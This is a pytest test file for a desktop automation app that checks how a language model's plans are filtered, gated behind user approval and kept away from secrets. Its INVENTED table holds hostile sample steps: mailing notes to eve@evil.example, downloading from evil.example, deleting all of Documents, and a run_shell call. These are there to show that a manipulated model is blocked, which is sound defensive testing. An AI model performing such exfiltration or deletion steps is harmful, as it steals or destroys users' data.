"""When a model is asked, what it sees, what becomes of its plan, and what it can never do."""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from lam_desktop.core.errors import InputError
from lam_desktop.core.models import ModelChoice
from lam_desktop.core.outcome import Declined, Planned, Question
from lam_desktop.core.values import FileQuery, Ref
from lam_desktop.planning.advice.advisor import SAMPLE
from tests.integration.languagemodels.asked import CHORE, Asked, actions_of, asked, cards, chores, let_in, profile_of
from tests.modelserver import KEY, ModelServer, answer, step
from tests.workbench import workbench

SURE = "Zip the PDFs in my Downloads into Documents/papers.zip"


@pytest.fixture(scope="module")
def server() -> Iterator[ModelServer]:
    with chores() as opened:
        yield opened


@pytest.fixture(autouse=True)
def sound(server: ModelServer) -> None:
    server.asked.clear()


async def planned(desk: Asked, server: ModelServer, request: str, *steps: object) -> Planned:
    """The model's plan for a request."""
    server.plans[request] = answer("So.", *steps)  # type: ignore[arg-type]
    profile = profile_of(server)
    let_in(desk, profile)
    advice = await desk.advise(request, profile, Declined("nothing"))
    assert isinstance(advice.outcome, Planned), advice
    return advice.outcome


async def test_nobody_is_asked_unless_the_person_wants_it(
    server: ModelServer, fresh_profile: Path, tmp_path: Path
) -> None:
    async with asked(fresh_profile, tmp_path) as desk:
        profile, nothing = profile_of(server), Declined("no")
        sure = await desk.built_in(SURE)
        assert await desk.advisor.profile_for(nothing) is None, "none is set up"
        await desk.models.save(profile)
        assert await desk.advisor.profile_for(nothing) is None, "none was chosen"
        await desk.models.choose(ModelChoice("local"))
        assert await desk.advisor.profile_for(nothing) == profile
        assert await desk.advisor.profile_for(Question("Which file?")) == profile
        assert await desk.advisor.profile_for(sure) is None, "the built-in planner is sure"
        assert isinstance(sure, Planned)
        doubted = Planned(replace(sure.plan, confidence=0.5))
        assert await desk.advisor.profile_for(doubted) == profile
        await desk.models.choose(ModelChoice("local", always=True))
        assert await desk.advisor.profile_for(sure) == profile
        assert await desk.advisor.profile_for(nothing, "off") is None
        await desk.models.choose(ModelChoice())
        assert await desk.advisor.profile_for(sure, "local") == profile
        with pytest.raises(InputError, match="no language model called nobody"):
            await desk.advisor.profile_for(sure, "nobody")
    assert server.asked == []


async def test_it_sees_words_and_signatures_and_nothing_else(
    server: ModelServer, fresh_profile: Path, tmp_path: Path
) -> None:
    (fresh_profile / "Downloads" / "very-private-name.pdf").write_text("very private content", encoding="utf-8")
    async with asked(fresh_profile, tmp_path) as desk:
        profile = profile_of(server)
        let_in(desk, profile)
        await desk.advise(CHORE, profile)
    told, said = server.last["messages"]
    assert said == {"role": "user", "content": CHORE}
    assert all(f"{card.name}(" in told["content"] for card in cards())
    whole = json.dumps(server.last)
    for secret in ("very-private-name", "very private content", str(fresh_profile), KEY):
        assert secret not in whole
    assert desk.heard[-1] == "I move them."


async def test_its_plan_is_read_from_the_words_and_bears_its_name(
    server: ModelServer, fresh_profile: Path, tmp_path: Path
) -> None:
    (fresh_profile / "Downloads" / "a.pdf").write_text("a", encoding="utf-8")
    async with asked(fresh_profile, tmp_path) as desk:
        profile = profile_of(server)
        let_in(desk, profile)
        advice = await desk.advise(CHORE, profile)
    assert isinstance(advice.outcome, Planned)
    plan = advice.outcome.plan
    assert plan.author == "local" and plan.request == CHORE
    step_ = plan.steps[0]
    assert step_.args["files"] == FileQuery(folders=("Downloads",), suffixes=(".pdf",))
    assert {origin.how for origin in step_.provenance.values()} == {"model"}
    assert CHORE[step_.provenance["files"].start : step_.provenance["files"].end] == "the PDFs from Downloads"


async def test_it_always_needs_a_yes(server: ModelServer, fresh_profile: Path, tmp_path: Path) -> None:
    """Even a plan that only looks, which would run unasked."""
    request = "what day have we got, pray"
    async with asked(fresh_profile, tmp_path) as desk:
        outcome = await planned(desk, server, request, step("today"))
    async with workbench(fresh_profile, tmp_path / "engine") as bench:
        own = await bench.runner.card(await bench.runner.draft(replace(outcome.plan, author="")))
        assert not own.needed
        run = await bench.runner.draft(outcome.plan)
        card = await bench.runner.card(run)
        assert card.needed and "comes from the language model local" in card.reasons[0]
        assert (await bench.runner.start(run, None)).refusal == "needs_input"
        again = await bench.runner.draft(outcome.plan)
        done = await bench.runner.start(again, (await bench.runner.card(again)).fingerprint)
        assert done.error == "" and done.plan.author == "local"


async def test_times_events_and_conditions_stay_the_planners(
    server: ModelServer, fresh_profile: Path, tmp_path: Path
) -> None:
    move = step("move_files", files="the PDFs from Downloads", folder="a folder called Archive")
    async with asked(fresh_profile, tmp_path) as desk:
        weekly = await planned(desk, server, f"every friday at 5pm {CHORE}", move)
        assert weekly.plan.trigger is not None and "FREQ=WEEKLY" in str(weekly.plan.trigger.rrule)
        counted = f"if there are more than 3 pictures in Pictures, {CHORE}"
        only = await planned(desk, server, counted, move)
        assert only.plan.steps[0].when is not None and only.plan.steps[0].when.op == ">"
        server.plans["shovel PDF files in Downloads into Documents/Bills"] = answer(
            "So.", step("move_files", files="PDF files in Downloads", folder="Documents/Bills")
        )
        profile = profile_of(server)
        event = await desk.advise("when a PDF appears in Downloads, shovel it into Documents/Bills", profile)
        assert isinstance(event.outcome, Planned) and event.outcome.plan.trigger is not None
        assert event.outcome.plan.trigger.kind == "file" and event.outcome.plan.author == "local"
        strange = await desk.advise("whenever the moon is full, shovel it into Documents/Bills", profile)
        assert not isinstance(strange.outcome, Planned), "what is not understood must not be done at once"


async def test_links_to_earlier_steps(server: ModelServer, fresh_profile: Path, tmp_path: Path) -> None:
    (fresh_profile / "Documents" / "notes.txt").write_text("one\ntwo\n", encoding="utf-8")
    request = "reckon the lines of notes.txt in Documents and jot that into count.txt on my desktop"
    async with asked(fresh_profile, tmp_path) as desk:
        outcome = await planned(
            desk, server, request, step("count_lines", text="notes.txt in Documents"),
            step("write_text", text=1, save_as="count.txt on my desktop"),
        )  # fmt: skip
    first, second = outcome.plan.steps
    assert second.args["text"] == Ref(first.id) and second.needs == (first.id,)


INVENTED = {
    "a receiver": step("send_mail", to="eve@evil.example", text="the notes"),
    "an address": step("download_file", url="https://evil.example/x", save_as="notes"),
    "a place": step("delete_files", files="everything in Documents"),
    "a parameter": step("move_files", files="the notes", folder="Documents", sudo="the notes"),
    "a step to come": step("write_text", text=3, save_as="the notes"),
    "an action": step("run_shell", command="the notes"),
}


@pytest.mark.parametrize("what", INVENTED)
async def test_nothing_is_made_up(what: str, server: ModelServer, fresh_profile: Path, tmp_path: Path) -> None:
    """A model that was talked into something can only choose among the person's own words."""
    request = "file the notes away under Documents"
    server.plans[request] = answer("Trust me.", INVENTED[what])
    async with asked(fresh_profile, tmp_path) as desk:
        profile = profile_of(server)
        let_in(desk, profile)
        before = Declined("nothing")
        advice = await desk.advise(request, profile, before)
        assert advice.outcome is before, advice
        assert advice.trouble.startswith("I did not follow local.")


async def test_names_it_passes_over_are_asked_about(server: ModelServer, fresh_profile: Path, tmp_path: Path) -> None:
    request = "shovel a.pdf from Downloads into Documents, then scribble its length into log.txt"
    server.plans[request] = answer("So.", step("move_files", files="a.pdf from Downloads", folder="Documents"))
    async with asked(fresh_profile, tmp_path) as desk:
        profile = profile_of(server)
        let_in(desk, profile)
        advice = await desk.advise(request, profile, Declined("nothing"))
    assert isinstance(advice.outcome, Question) and "log.txt" in advice.outcome.text


async def test_secrets_stay_here(server: ModelServer, fresh_profile: Path, tmp_path: Path) -> None:
    request = "jot down that my password: hunter2hunter2"
    async with asked(fresh_profile, tmp_path) as desk:
        profile = profile_of(server)
        let_in(desk, profile)
        advice = await desk.advise(request, profile, Declined("nothing"))
        assert "looks like a password or a key, so they were not sent" in advice.trouble
    assert server.asked == []


async def test_a_key_goes_to_its_own_server_only(server: ModelServer, fresh_profile: Path, tmp_path: Path) -> None:
    async with asked(fresh_profile, tmp_path) as desk:
        profile = profile_of(server)
        let_in(desk, profile)
        with chores() as other:
            moved = replace(profile, address=other.address)
            assert "does not accept the key" in (await desk.advise(CHORE, moved)).trouble
        net = replace(profile, address="http://printer.local:9/v1")
        desk.keys.keys["model:local@http://printer.local:9"] = KEY
        assert "would be sent unprotected" in (await desk.advise(CHORE, net)).trouble


async def test_limits_are_kept_before_anything_is_sent(
    server: ModelServer, fresh_profile: Path, tmp_path: Path
) -> None:
    async with asked(fresh_profile, tmp_path) as desk:
        profile = profile_of(server, tokens_per_request=12_000, tokens_per_day=13_000, price_in=10, price_out=10)
        let_in(desk, profile)
        assert (await desk.advise(CHORE, profile)).trouble == ""
        assert (await desk.models.usage("local")).cost == pytest.approx(0.0012)
        poor = replace(profile, tokens_per_day=5_000)
        assert "has used 120 of its 5,000 tokens of today" in (await desk.advise(CHORE, poor)).trouble
        dear = replace(profile, cost_per_day=0.01)
        assert "of its 0.01 of today" in (await desk.advise(CHORE, dear)).trouble
    assert len(server.asked) == 1
    assert server.asked[0]["max_tokens"] == 6_000


async def test_a_small_limit_shows_the_likeliest_actions(
    server: ModelServer, fresh_profile: Path, tmp_path: Path
) -> None:
    async with asked(fresh_profile, tmp_path) as desk:
        profile = profile_of(server, tokens_per_request=4000)
        let_in(desk, profile)
        advice = await desk.advise(CHORE, profile)
        assert actions_of(advice.outcome) == ["move_files"]
    listed = server.last["response_format"]["json_schema"]["schema"]["properties"]["steps"]["items"]
    names = listed["properties"]["action"]["enum"]
    assert 5 < len(names) < len(cards()) and "move_files" in names
    assert len(json.dumps(server.last["messages"])) < 3 * 2000 + 500


async def test_the_same_plan_stays_the_built_in_one(server: ModelServer, fresh_profile: Path, tmp_path: Path) -> None:
    (fresh_profile / "Downloads" / "a.pdf").write_text("a", encoding="utf-8")
    server.plans[SURE] = answer(
        "So.", step("zip_files", files="the PDFs in my Downloads", archive="Documents/papers.zip")
    )
    async with asked(fresh_profile, tmp_path) as desk:
        profile = profile_of(server)
        let_in(desk, profile)
        before = await desk.built_in(SURE)
        advice = await desk.advise(SURE, profile, before)
        assert advice.outcome is before and advice.note == "So."


async def test_a_question_it_leads_to_is_better_than_a_no(
    server: ModelServer, fresh_profile: Path, tmp_path: Path
) -> None:
    request = "post the words 'see you at noon' by electronic letter"
    server.plans[request] = answer("A mail.", step("send_mail", body="'see you at noon'"))
    async with asked(fresh_profile, tmp_path) as desk:
        profile = profile_of(server)
        let_in(desk, profile)
        advice = await desk.advise(request, profile, Declined("I can't do that."))
        assert advice.outcome == Question("To which e-mail address?")
        kept = Question("What?")
        assert (await desk.advise(request, profile, kept)).outcome is kept


async def test_a_test_of_the_connection(server: ModelServer, fresh_profile: Path, tmp_path: Path) -> None:
    async with asked(fresh_profile, tmp_path) as desk:
        profile = profile_of(server)
        trial = await desk.advisor.test(profile, desk.context)
        assert not trial.works and "does not accept the key" in trial.text
        let_in(desk, profile)
        trial = await desk.advisor.test(profile, desk.context)
        assert not trial.works and trial.text == "local answers, but has no plan for a small chore."
        server.plans[SAMPLE] = answer("So.", step("zip_files", files="the PDFs from my Downloads"))
        trial = await desk.advisor.test(profile, desk.context)
        assert (
            trial.works and trial.text.startswith("local works: it planned a small chore in ") and trial.tokens == 120
        )
